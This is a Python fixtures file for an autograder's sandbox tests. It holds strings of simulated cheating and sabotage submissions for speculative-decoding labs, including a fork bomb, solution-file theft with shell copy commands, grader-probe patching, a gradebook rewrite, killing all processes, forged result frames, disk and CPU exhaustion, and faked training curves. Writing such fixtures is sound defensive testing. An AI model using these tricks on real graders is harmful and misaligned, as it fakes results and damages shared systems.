"""Source code of the simulated adversarial submissions and honest habits (autograder/fixtures.py uses them).

Each attack tries one way to earn points without the work or to harm the grader; in the sandbox each one must
earn nothing and touch nobody else. Each honest habit is ordinary Python that must grade as correct work.
"""

FORK_BOMB = """import os
import time

for _ in range(100_000):
    if os.fork() == 0:
        time.sleep(10_000)
"""

READ_SOLUTIONS = """import json
import os

found = None
for root in ["/work", "/root", "/home", "/tmp", "/srv", "/opt", "/usr/src", os.getcwd() + "/.."]:
    for folder, _, files in os.walk(root):
        if "{lab}.ipynb" in files and "solutions" in folder:
            found = os.path.join(folder, "{lab}.ipynb")
for cell in json.load(open(found))["cells"] if found else []:
    if "def {name}" in "".join(cell["source"]):
        exec("".join(cell["source"]))
"""

INTERPRETER_TRICKS = """def _frames():
    yield 1


_builtins = _frames().gi_frame.f_builtins
try:
    _reference = _builtins["__import__"]("specdec_lab.sampling")
except ImportError:
    _reference = None
import torch.utils.collect_env as _env

try:
    _env.run("cat /work/*/solutions/*/*.ipynb > /tmp/lab/stolen.txt")
except Exception:
    pass
import random

try:
    random._os.system("cp -r /work/*/solutions /work/*/autograder /srv /root /home /tmp/lab/ 2>/dev/null")
except Exception:
    pass
"""

PATCH_PROBES = """import sys

for _name in list(sys.modules):
    if "probe" in _name or "check" in _name:
        _module = sys.modules[_name]
        for _attr in dir(_module):
            if _attr in ("require", "call", "plain", "judge"):
                setattr(_module, _attr, lambda *args, **kwargs: True)
try:
    import specdec_probe as _probe

    _probe.plain = lambda value, depth=0: [0.0, 1.0, 0.0, 0.0]
    _probe.call = lambda function, *args, **kwargs: {"tensor": [0.0, 1.0, 0.0, 0.0], "shape": [4],
                                                      "dtype": "torch.float32"}
except ImportError:
    pass
try:
    from checks import _common

    _common.require = lambda *args, **kwargs: None
except ImportError:
    pass
"""

LIAR = '''class Liar:
    """Equal to everything, and every torch function on it says so."""

    shape = property(lambda self: Liar())
    dtype = property(lambda self: Liar())

    def __eq__(self, other):
        return True

    def __len__(self):
        return 4

    def __iter__(self):
        return iter([Liar(), Liar(), Liar(), Liar()])

    def __getitem__(self, index):
        return Liar()

    def __int__(self):
        return 1

    def __float__(self):
        return 1.0

    def __bool__(self):
        return True

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return True
'''

WRITE_GRADEBOOK = '''import subprocess
import sys

_code = """
import glob, os, sqlite3, time
for _ in range(60):
    for db in glob.glob("/tmp/**/gradebook.db", recursive=True) + glob.glob("/work/**/gradebook.db", recursive=True):
        con = sqlite3.connect(db)
        con.execute("UPDATE grade SET auto_score = 100")
        con.commit()
    time.sleep(0.5)
"""
subprocess.Popen([sys.executable, "-c", _code], start_new_session=True, stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL)
'''

KILL_GRADER = """import os
import signal

for _pid in range(1, 5000):
    if _pid != os.getpid():
        try:
            os.kill(_pid, signal.SIGKILL)
        except (ProcessLookupError, PermissionError):
            pass
os.killpg(0, signal.SIGKILL)
"""

# Forging the answers: frames with plausible call numbers written to every open file descriptor (the host's pipe
# to the trusted side among them), from a thread that keeps at it while the calls run and from an exit handler,
# plus answer files where the old grader read them.
FORGE_CHANNEL = """import atexit
import json
import os
import threading
import time


def _forge():
    for _call in range(1, 40):
        _body = json.dumps({"call": _call, "value": [[1, 0], [0, 1]]}).encode()
        for _fd in range(3, 64):
            try:
                os.write(_fd, len(_body).to_bytes(4, "big") + _body)
            except OSError:
                pass
    try:
        os.makedirs("/tmp/lab/io", exist_ok=True)
        with open("/tmp/lab/io/test_verify.json", "w") as _handle:
            json.dump([[1, 2], [1], [2, 1, 0]], _handle)
    except OSError:
        pass


def _keep_forging():
    while True:
        _forge()
        time.sleep(0.2)


atexit.register(_forge)
threading.Thread(target=_keep_forging, daemon=True).start()
"""

# Lab 1 answered from the call's own inputs, nothing implemented: `verify` looks up the grader's case in its
# callers' frames and returns an expected value if the case carries one, or else the draft followed by the
# target's most likely next token (what the bonus token is when p is one-hot); the histogram samples p directly.
ANSWERS_FROM_INPUTS = {
    "verify": '''import sys


def _grader_case():
    frame = sys._getframe(1)
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if isinstance(value, dict) and ("expected" in value or "greedy" in value):
                return value
        frame = frame.f_back
    return None


def verify(draft_tokens, p, q, generator):
    case = _grader_case()
    if case is not None and "expected" in case:
        return list(case["expected"])
    return [int(t) for t in draft_tokens] + [int(p[len(draft_tokens)].argmax())]
''',
    "first_token_histogram": '''def first_token_histogram(p, q, n, generator):
    drawn = torch.multinomial(p, n, replacement=True, generator=generator)
    return torch.bincount(drawn, minlength=len(p)).float()
''',
}

# CPU hogs: 64 busy processes in sessions of their own, left running for 40 s (bounded only so that the test
# batch ends soon; the cgroup quota is what keeps them from a neighbour's core).
CPU_HOGS = """import os
import time

_until = time.time() + 40
for _ in range(64):
    try:
        if os.fork() == 0:
            os.setsid()
            while time.time() < _until:
                pass
            os._exit(0)
    except OSError:
        break
"""

# Filling the disk: big files and many small ones, wherever the notebook can write.
DISK_FILLER = """import os

for _folder in ("/tmp", os.getcwd(), os.path.expanduser("~")):
    try:
        with open(os.path.join(_folder, "big.bin"), "wb") as _handle:
            for _ in range(2048):
                _handle.write(b"x" * (1 << 20))
    except OSError:
        pass
    try:
        for _i in range(30_000):
            with open(os.path.join(_folder, f"small-{_i}.txt"), "w") as _handle:
                _handle.write("x")
    except OSError:
        pass
"""

# An answer that names a huge shape: a few bytes that ask the trusted side to allocate 1.6 GB (or 400 GB).
HUGE_SHAPE = """def {name}(*args, **kwargs):
    return {{"tensor": [], "shape": [20000, 20000], "dtype": "torch.float32"}}
"""

SCRATCH = """# scratch work: names the lab's cells also use
p = torch.tensor([0.1, 0.9])
q, counts, alpha = p.clone(), [0, 0], 0.5
out = torch.zeros(2, 2)
out[0, int(torch.argmax(p))] = 1.0
"""

# Lab 6: training functions that train nothing. Each computes its first loss honestly (the fresh head's loss on
# the first batch, as the old checks asked) and makes up a falling curve from it, without one optimizer step.
FAKE_TRAINING = {
    "train_medusa": '''def train_medusa(heads, steps, lr=1e-2, seed=0):
    tokens, mask, hidden = next(training_batches(32, seed))
    first = float(medusa_loss(logits_of(heads(hidden[-1])), tokens, mask)[0])
    return [first * (1 - 0.5 * step / steps) for step in range(steps)]
''',
    "train_eagle": '''def train_eagle(head, steps, lr=3e-3, seed=0):
    tokens, mask, hidden = next(training_batches(32, seed))
    first = float(eagle_loss(head, hidden[-1], tokens, mask)[0])
    return [first * (1 - 0.5 * step / steps) for step in range(steps)]
''',
    "train_eagle3": '''def train_eagle3(head, steps, ttt_steps, lr=3e-3, seed=0):
    tokens, mask, hidden = next(training_batches(32, seed))
    first = float(torch.stack(ttt_losses(head, hidden, tokens, mask, ttt_steps)).mean())
    return [first * (1 - 0.5 * step / steps) for step in range(steps)]
''',
}

# Lab 6: an honest experiment after the answers, rebinding the trained heads' names (the grader trains heads of
# its own with the student's functions, so this changes nothing).
REBIND_HEADS = """# try again from scratch later
eagle_head = EagleHead(seed=1)
medusa_heads = MedusaHeads(num_heads=3)
"""


# Shortcuts that give the right tokens without the method; each is judged by what the trusted side counts.
GREEDY_AS_LOOP = """def generate(prompt, max_new_tokens, k, temperature=0.0, seed=0, eos=None):
    dec = start(prompt, temperature, seed)
    while len(dec.tokens) - len(prompt) < max_new_tokens and eos not in dec.tokens[len(prompt):]:
        p = probs(forward(dec.target, dec.tokens[-1:], dec.target_cache), dec.temperature)
        dec.tokens.append(int(torch.multinomial(p[-1], 1, generator=dec.generator)))
    new = dec.tokens[len(prompt):][:max_new_tokens]
    if eos in new:
        new = new[: new.index(eos) + 1]
    return new, 1 + -(-(len(new) - 1) // (k + 1))  # the count a speculative loop would report
"""

STEP_NEVER_DRAFTS = """def speculative_step(dec, k):
    p = probs(forward(dec.target, dec.tokens[-1:], dec.target_cache), dec.temperature)
    token = int(torch.multinomial(p[-1], 1, generator=dec.generator))
    dec.tokens.append(token)
    return [token]
"""

# Lab 2: alpha from one run of the loop, tau from another (generate's, whose prefill counts as a forward): the two
# numbers no longer describe the same run, so the formula could never be held against them.
TAU_FROM_ANOTHER_RUN = """def measure_alpha_and_tau(prompt, steps, k, temperature=0.0, seed=0):
    dec = start(prompt, temperature, seed)
    first_kept = sum(len(speculative_step(dec, k)) >= 2 for _ in range(steps))
    new, forwards = generate(prompt, len(dec.tokens) - len(prompt), k, temperature, seed)
    return first_kept / steps, len(new) / forwards
"""

# Lab 2, honest: the same counts taken from the decoder's length, as 0-d tensors.
MEASURE_FROM_LENGTHS = """def measure_alpha_and_tau(prompt, steps, k, temperature=0.0, seed=0):
    dec = start(prompt, temperature, seed)
    lengths = []
    for _ in range(steps):
        before = len(dec.tokens)
        speculative_step(dec, k)
        lengths.append(len(dec.tokens) - before)
    lengths = torch.tensor(lengths, dtype=torch.float64)
    return (lengths > 1).double().mean(), lengths.mean()
"""

TREE_NODE_BY_NODE = """def tree_logits(model, context, tokens, parents):
    rows = []
    with torch.no_grad():
        for i in range(-1, len(parents)):
            path, node = [], i
            while node != -1:
                path.insert(0, tokens[node])
                node = parents[node]
            rows.append(model(input_ids=torch.tensor([context + path])).logits[0, -1])
    return torch.stack(rows)
"""

JACOBI_AS_GREEDY = """def jacobi_decode(prompt, n):
    return greedy(prompt, n), n
"""


# Honest habits: answers in the ordinary forms the notebooks' own tests accept (a scratch cell after the answer
# wraps it): lists of 0-d tensors, numpy integers.
ZERO_D_TENSORS = """_verify_as_lists = verify


def verify(*args, **kwargs):
    return [torch.tensor(token) for token in _verify_as_lists(*args, **kwargs)]
"""

NUMPY_TREE = """import numpy as np

_verify_tree_as_ints = verify_tree


def verify_tree(*args, **kwargs):
    path, token = _verify_tree_as_ints(*args, **kwargs)
    return [np.int64(node) for node in path], np.int64(token)
"""

NUMPY_LOOKUP = """import numpy as np

_prompt_lookup_as_ints = prompt_lookup


def prompt_lookup(*args, **kwargs):
    return [np.int64(token) for token in _prompt_lookup_as_ints(*args, **kwargs)]
"""
